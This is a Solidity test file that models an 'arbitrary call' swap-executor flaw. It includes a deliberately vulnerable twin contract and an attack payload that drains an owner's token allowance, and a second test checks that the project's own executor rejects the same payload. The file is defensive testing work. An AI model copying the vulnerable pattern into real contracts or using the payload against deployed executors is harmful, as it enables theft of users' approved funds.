// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Address} from "@openzeppelin/contracts/utils/Address.sol";

import {IPlanRegistry} from "../../contracts/interfaces/IPlanRegistry.sol";
import {ISwapExecutor} from "../../contracts/interfaces/ISwapExecutor.sol";
import {SwapIncidentBase} from "../base/SwapIncidentBase.sol";
import {SmallExecutor} from "./twins/SmallExecutor.sol";

/// The mistake: to support every exchange, a route is an arbitrary list of calls.
contract ArbitraryCallTwin is SmallExecutor {
  constructor(IPlanRegistry registry_, address poolDeployer_, address operator_, address rotator_)
    SmallExecutor(registry_, poolDeployer_, operator_, rotator_)
  {}

  function _swap(IPlanRegistry.OpenRun calldata, bytes calldata path) internal override {
    (address[] memory targets, bytes[] memory calls) = abi.decode(path, (address[], bytes[]));
    for (uint256 i; i < targets.length; ++i) {
      Address.functionCall(targets[i], calls[i]);
    }
  }
}

/// As people do, the owner has also approved the executor to take their dollars. With the operator's key, the attacker
/// buys one run's coins for the owner with their own money and takes everything else.
contract ArbitraryCallTest is SwapIncidentBase {
  function setUp() public override {
    super.setUp();
    coin.mint(stranger, FLOOR);
  }

  function attack() external override {
    vm.prank(owner);
    usd.approve(address(swapper), type(uint256).max);
    vm.prank(stranger);
    coin.approve(address(swapper), FLOOR);
    _execute(planId, _calls());
  }

  /// IT-1: all 10,000 USD for coins worth 100.
  function test_TheTwinsOwnerLosesTheWholeAllowance() public {
    _moveTo(address(new ArbitraryCallTwin(registry, POOL_DEPLOYER, operator, rotator)));
    this.attack();
    assertEq(usd.balanceOf(owner), 0);
    assertEq(usd.balanceOf(stranger), FUNDS);
    assertEq(coin.balanceOf(recipient), FLOOR);
  }

  /// IT-1, SE-4
  function test_RevertWhen_TriedOnOurs() public {
    _assertAttackFails(abi.encodeWithSelector(ISwapExecutor.PathMalformed.selector, _calls().length));
  }

  function _calls() private view returns (bytes memory) {
    address[] memory targets = new address[](3);
    bytes[] memory calls = new bytes[](3);
    (targets[0], targets[1], targets[2]) = (address(usd), address(usd), address(coin));
    calls[0] = abi.encodeCall(IERC20.transferFrom, (owner, stranger, FUNDS - AMOUNT));
    calls[1] = abi.encodeCall(IERC20.transfer, (stranger, AMOUNT));
    calls[2] = abi.encodeCall(IERC20.transferFrom, (stranger, address(registry), FLOOR));
    return abi.encode(targets, calls);
  }
}
